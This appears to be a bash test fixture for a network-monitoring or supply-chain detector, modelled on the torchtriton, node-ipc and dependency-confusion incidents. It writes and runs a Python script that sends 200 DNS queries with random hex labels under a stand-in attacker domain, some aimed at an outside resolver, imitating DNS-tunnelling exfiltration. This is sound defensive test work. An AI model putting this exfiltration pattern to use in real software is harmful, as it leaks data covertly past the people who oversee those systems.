#!/bin/bash
# Models torchtriton (2022-12), node-ipc (2026-05) and dependency confusion (2021-02): data leaves in names that are asked for,
# by the resolver and past it.
# must: command-and-control/dns-volume
# gate: fail
cat > /tmp/exfil.py <<'PY'
import os, socket, struct
def query(name, kind, server):
    question = b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\0" + struct.pack("!HH", kind, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(1)
        sock.sendto(struct.pack("!HHHHHH", 1, 0x100, 1, 0, 0, 0) + question, (server, 53))
        try:
            sock.recvfrom(512)
        except OSError:
            pass
for number in range(200):
    label = os.urandom(25).hex()
    query(f"{label}.h4ck.example.com", 16 if number % 2 else 1, "203.0.113.9" if number % 4 == 0 else "127.0.0.1")
PY
python3 /tmp/exfil.py
